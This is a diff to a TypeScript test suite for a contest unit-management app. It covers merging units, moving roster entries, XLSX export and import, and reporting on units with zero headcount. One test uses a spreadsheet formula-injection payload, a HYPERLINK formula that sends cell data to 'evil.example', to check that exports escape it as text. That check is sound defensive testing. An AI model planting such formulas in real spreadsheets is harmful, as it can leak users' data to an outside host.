@@ -199,15 +199,29 @@ describe('the unit tree', () => {
     expect(figuresOf(beforeMerge, x1.id)).toMatchObject({ participants: 8, headcount: 50 });
     expect(figuresOf(beforeMerge, x2.id)).toMatchObject({ participants: 16, headcount: 30 });
 
-    // X1 also has an account and a roster entry; after the merge they belong to X2.
+    // X1 also has an account and a roster of three: one person of X1 itself, two of its school N.
+    // After the merge they belong to X2, and the dialog's count beforehand is the count that moves.
     const person = await createUser(db, { unitCode: code('X1') });
+    const n = await unitByCode(code('N'));
     await db.query(
-      `INSERT INTO roster_entries (roster_unit_id, unit_id, full_name, phone) VALUES ($1, $1, 'Người Xã Một', '0987000111')`,
-      [x1.id],
+      `INSERT INTO roster_entries (roster_unit_id, unit_id, full_name, phone)
+       VALUES ($1, $1, 'Người Xã Một', '0987000111'), ($1, $2, 'Cô Giáo Một', '0987000112'),
+              ($1, $2, 'Thầy Giáo Hai', '0987000113')`,
+      [x1.id, n.id],
     );
+    const treeBefore = (await organizer.get(`/units/tree?contestId=${contestId}`)).body;
+    expect(treeBefore.units.find((u: { id: number }) => u.id === x1.id)).toMatchObject({
+      rosterEntries: 1,
+      rosterEntriesToMove: 3,
+    });
     const merged = await organizer.post(`/units/${x1.id}/merge`, { intoUnitId: x2.id });
     expect(merged.status).toBe(200);
-    expect(merged.body.moved).toEqual({ children: 1, accounts: 1 + 8, rosterEntries: 1 });
+    expect(merged.body.moved).toEqual({ children: 1, accounts: 1 + 8, rosterEntries: 3 });
+    expect(
+      await db.query('SELECT DISTINCT roster_unit_id AS id FROM roster_entries WHERE phone LIKE $1', [
+        '098700011%',
+      ]),
+    ).toEqual([{ id: x2.id }]);
     expect((await unitByCode(code('N'))).parentId).toBe(x2.id);
     expect((await db.query('SELECT unit_id FROM users WHERE id = $1', [person.id]))[0].unit_id).toBe(x2.id);
     const x1After = await unitByCode(code('X1'));
@@ -232,5 +246,80 @@ describe('the unit tree', () => {
     expect(again.body.code).toBe('unit_merged');
     const tree = (await organizer.get(`/units/tree?contestId=${contestId}`)).body;
     expect(tree.merged.find((m: { id: number }) => m.id === x1.id)).toMatchObject({ successorId: x2.id });
+  });
+  it('writes a name that starts like a formula into every XLSX as text, and imports it back unchanged', async () => {
+    const formulaName = '=HYPERLINK("http://evil.example/?q="&A1,"Bấm vào")';
+    const h = await unitByCode(code('H'));
+    const created = await organizer.post('/units', {
+      code: code('F'),
+      name: formulaName,
+      level: 'commune',
+      parentId: h.id,
+      contestId,
+      headcount: 4,
+    });
+    expect(created.status).toBe(201);
+
+    const exported = await organizer.download(`/units/export?contestId=${contestId}`);
+    const book = new ExcelJS.Workbook();
+    await book.xlsx.load(exported.bytes as unknown as ArrayBuffer);
+    const sheet = book.worksheets[0];
+    const row = sheet.getRows(2, sheet.rowCount - 1)!.find((r) => r.getCell(1).value === code('F'))!;
+    expect(row.getCell(2).type).toBe(ExcelJS.ValueType.String);
+    expect(row.getCell(2).value).toBe(`'${formulaName}`);
+
+    const report = await organizer.download(`/reports/contests/${contestId}/xlsx`);
+    const reportBook = new ExcelJS.Workbook();
+    await reportBook.xlsx.load(report.bytes as unknown as ArrayBuffer);
+    const cells = reportBook.worksheets.flatMap((ws) =>
+      ws.getSheetValues().flatMap((r) => (Array.isArray(r) ? r : [])),
+    );
+    expect(cells).toContain(`'${formulaName}`);
+    expect(cells).not.toContain(formulaName);
+
+    // The export is the import's template: the mark comes off again, the name stays as it was.
+    for (let r = sheet.rowCount; r >= 2; r--)
+      if (sheet.getRow(r).getCell(1).value !== code('F')) sheet.spliceRows(r, 1);
+    const again = await organizer.upload(
+      `/units/import?format=xlsx&contestId=${contestId}`,
+      Buffer.from(await book.xlsx.writeBuffer()),
+    );
+    expect(again.body).toMatchObject({ ok: true, problems: [] });
+    expect((await unitByCode(code('F'))).name).toBe(formulaName);
+  });
+
+  it('says which units a report leaves out of the units taking part because their headcount is 0', async () => {
+    const h = await unitByCode(code('H'));
+    const zero = await organizer.post('/units', {
+      code: code('Z'),
+      name: 'Tổ công tác không biên chế',
+      level: 'other',
+      parentId: h.id,
+      contestId,
+      headcount: 0,
+    });
+    expect(zero.status).toBe(201);
+    const report = (await organizer.get(`/reports/contests/${contestId}`)).body;
+    expect(report.unitsWithoutHeadcount).toContainEqual({
+      unitId: zero.body.id,
+      code: code('Z'),
+      name: 'Tổ công tác không biên chế',
+      level: 'other',
+      parentName: 'Huyện Đông, Tây',
+      headcount: 0,
+      participants: 0,
+    });
+    expect(report.units.some((u: { unitId: number }) => u.unitId === zero.body.id)).toBe(true);
+    const counted = report.units.filter((u: { unitId: number }) =>
+      report.unitsWithoutHeadcount.every((left: { unitId: number }) => left.unitId !== u.unitId),
+    ).length;
+    expect(report.totals.units).toBe(counted);
+
+    // The public board names each unit's parent, so two units of one name can be told apart.
+    const board = (await api.client().get(`/units-board?contestId=${contestId}`)).body;
+    const x2 = await unitByCode(code('X2'));
+    expect(board.overall.find((r: { unitId: number }) => r.unitId === x2.id)).toMatchObject({
+      parentName: 'Huyện Đông, Tây',
+    });
   });
 });
